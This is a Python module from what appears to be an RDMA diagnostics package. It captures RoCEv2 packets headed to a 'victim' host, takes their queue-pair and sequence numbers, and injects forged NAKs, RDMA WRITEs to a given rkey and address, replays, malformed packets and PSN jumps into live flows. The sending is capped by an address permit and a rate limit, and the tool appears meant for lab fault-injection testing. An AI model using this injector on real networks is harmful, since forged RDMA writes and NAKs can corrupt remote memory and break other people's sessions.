"""Forges packets into live flows, in the lab's switch: hears what goes to a host, and sends it what its peer never sent.

Run as `python -m rdmadiag.roce.forger PLAN` (JSON). QPNs and PSNs are taken from the packets that go to the victim by its port: ACKs and
READ responses when it is a requester, requests when it is a responder. Only addresses of the permit are sent to, so many packets, so
many a second, for so long. Prints one JSON object a second: seen, sent. Standard library only.
"""

from __future__ import annotations

import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any, NamedTuple

from rdmadiag.errors import BadInput, HostRefused
from rdmadiag.roce import forge, packet
from rdmadiag.roce.packet import Path

_SO_ATTACH_FILTER, _OUTGOING = 26, 4
_PSN = 0xFFFFFF
ANSWERS = (0x0D, 0x0F, 0x10, 0x11, 0x12)
"""Opcodes that a requester hears: READ responses with an AETH, ACKNOWLEDGE, ATOMIC ACKNOWLEDGE."""


class Heard(NamedTuple):
    """What one packet to the victim told: the path from its peer, its QPN, the PSN."""

    path: Path
    dest_qp: int
    psn: int
    opcode: int
    frame: bytes


def hear(frame: bytes) -> Heard | None:
    """Read a frame that went to the victim; None for what is no whole RoCEv2 packet over IPv4."""
    at = packet.places(frame)
    if at is None or frame[at.l3] >> 4 != 4:
        return None
    path = Path(
        socket.inet_ntoa(frame[at.l3 + 12 : at.l3 + 16]),
        socket.inet_ntoa(frame[at.l3 + 16 : at.l3 + 20]),
        frame[6:12].hex(":"),
        frame[:6].hex(":"),
        int.from_bytes(frame[at.udp : at.udp + 2], "big"),
        frame[at.l3 + 1],
    )
    number = int.from_bytes(frame[at.bth + 9 : at.bth + 12], "big")
    return Heard(path, int.from_bytes(frame[at.bth + 5 : at.bth + 8], "big"), number, at.opcode, frame)


def is_request(opcode: int) -> bool:
    """Tell whether an RC opcode is a request."""
    return opcode < 0x20 and opcode not in (0x0D, 0x0E, 0x0F, 0x10, 0x11, 0x12)


def _cnp(heard: Heard, values: dict[str, Any]) -> bytes:
    return forge.cnp(heard.path, dest_qp=heard.dest_qp).data


def _nak(heard: Heard, values: dict[str, Any]) -> bytes:
    psn = heard.psn + 1 + int(values["ahead"]) & _PSN
    return forge.nak(heard.path, dest_qp=heard.dest_qp, psn=psn, error=values["error"]).data


def _rnr(heard: Heard, values: dict[str, Any]) -> bytes:
    return forge.rnr_nak(heard.path, dest_qp=heard.dest_qp, psn=heard.psn + 1 & _PSN, timer=int(values["timer"])).data


def _write(heard: Heard, values: dict[str, Any]) -> bytes:
    psn = heard.psn + 1 & _PSN
    return forge.write(heard.path, dest_qp=heard.dest_qp, psn=psn, rkey=int(values["rkey"]), va=int(values["va"])).data


def _replay(heard: Heard, values: dict[str, Any]) -> bytes:
    return forge.replay(frame=heard.frame).data


def _malformed(heard: Heard, values: dict[str, Any]) -> bytes:
    psn = heard.psn + 1 & _PSN
    return forge.malformed(heard.path, kind=values["kind"], dest_qp=heard.dest_qp, psn=psn).data


def _jump(heard: Heard, values: dict[str, Any]) -> bytes:
    psn = heard.psn + 1 & _PSN
    return forge.psn_jump(heard.path, dest_qp=heard.dest_qp, psn=psn, by=int(values["by"])).data


KINDS: dict[str, tuple[Callable[[int], bool], Callable[[Heard, dict[str, Any]], bytes]]] = {
    "cnp": (lambda opcode: opcode in ANSWERS, _cnp),
    "nak": (lambda opcode: opcode in ANSWERS, _nak),
    "rnr-nak": (lambda opcode: opcode in ANSWERS, _rnr),
    "write": (is_request, _write),
    "replay": (is_request, _replay),
    "malformed": (is_request, _malformed),
    "psn-jump": (is_request, _jump),
}
"""By kind: which packets to the victim tell what is needed, and how the forged one is made."""


class Forger:
    """One flow of forgery. `sent` and `seen` are packets."""

    def __init__(self, plan: dict[str, Any]) -> None:
        """Raise BadInput for a plan that is none."""
        try:
            self.wants, self.make = KINDS[plan["kind"]]
            self.netdev, self.addresses = str(plan["netdev"]), tuple(plan["addresses"])
            self.rate, self.most = float(plan["rate"]), int(plan["most"])
            self.values: dict[str, Any] = dict(plan["values"])
        except (KeyError, TypeError, ValueError) as error:
            raise BadInput(f"a plan of the forger: {type(error).__name__}: {error}") from error
        self.seen = self.sent = 0
        self._due = 0.0

    def take(self, frame: bytes, now: float) -> bytes | None:
        """Take a frame that went to the victim; return what is to be sent to it, if anything is due."""
        heard = hear(frame)
        if heard is None or heard.path.dst not in self.addresses or not self.wants(heard.opcode):
            return None
        self.seen += 1
        if self.sent >= self.most or now < self._due:
            return None
        self._due = max(self._due + 1 / self.rate, now - 0.1)  # what was missed is made up for 0.1 s back
        self.sent += 1
        return self.make(heard, self.values)


def _filter() -> bytes:
    # Outgoing IPv4 UDP to 4791: (code, jump if true, jump if false, value), linux/filter.h.
    program = [
        (0x28, 0, 0, 0xFFFFF004),  # packet type, SKF_AD_PKTTYPE
        (0x15, 0, 7, _OUTGOING),
        (0x28, 0, 0, 12),
        (0x15, 0, 5, 0x0800),
        (0x30, 0, 0, 23),
        (0x15, 0, 3, 17),
        (0x28, 0, 0, 36),
        (0x15, 0, 1, packet.UDP_PORT),
        (0x06, 0, 0, 0xFFFF),
        (0x06, 0, 0, 0),
    ]
    return b"".join(struct.pack("HBBI", *one) for one in program)


def listen(netdev: str) -> socket.socket:
    """Return a socket that hears what leaves by a netdev, and sends by it; its own packets it does not hear. Raises HostRefused."""
    import ctypes

    try:
        opened = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        code = ctypes.create_string_buffer(_filter())
        count = len(code) // 8
        opened.setsockopt(socket.SOL_SOCKET, _SO_ATTACH_FILTER, struct.pack("HxxxxxxP", count, ctypes.addressof(code)))
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        opened.bind((netdev, 3))  # ETH_P_ALL: packets that leave are heard by no other
    except OSError as error:
        raise HostRefused(f"listen at {netdev}", os.strerror(error.errno or 0), "run as root (CAP_NET_RAW)") from error
    opened.setblocking(False)
    return opened


def run(forger: Forger, link: socket.socket) -> None:
    """Forge until the process is ended."""
    told = 0.0
    while True:
        ready = select.select([link], [], [], 1.0)[0]
        now = time.monotonic()
        for _ in range(64 if ready else 0):
            try:
                frame = link.recv(65536)
            except BlockingIOError:
                break
            forged = forger.take(frame, time.monotonic())
            if forged is not None:
                try:
                    link.send(forged)
                except BlockingIOError:
                    forger.sent -= 1
        if now - told >= 0.5:
            told = now
            sys.stdout.write(json.dumps({"seen": forger.seen, "sent": forger.sent}) + "\n")
            sys.stdout.flush()


def main() -> int:
    """Run a plan given as the first argument."""
    try:
        forger = Forger(json.loads(sys.argv[1]))
        link = listen(forger.netdev)
    except (BadInput, HostRefused, ValueError, IndexError) as error:
        sys.stderr.write(f"rdmadiag: {error}\n")
        return 2
    run(forger, link)
    return 0


if __name__ == "__main__":
    sys.exit(main())
